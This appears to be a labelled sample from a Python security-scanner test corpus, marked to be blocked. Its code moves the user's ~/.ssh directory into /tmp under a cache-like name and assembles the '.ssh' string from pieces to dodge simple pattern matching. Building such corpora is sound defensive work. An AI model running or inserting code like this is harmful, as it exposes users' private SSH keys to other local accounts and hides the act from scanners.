# pyguard-corpus: verdict=block category=filesystem rules=PG701
# what: moves the user's ~/.ssh directory into the shared temporary directory, the name assembled from pieces
import os
import shutil

hidden = "." + "s" + "sh"
source = os.path.expanduser("~" + os.sep + hidden)
shutil.move(source, "/tmp/.cache-" + str(os.getpid()))
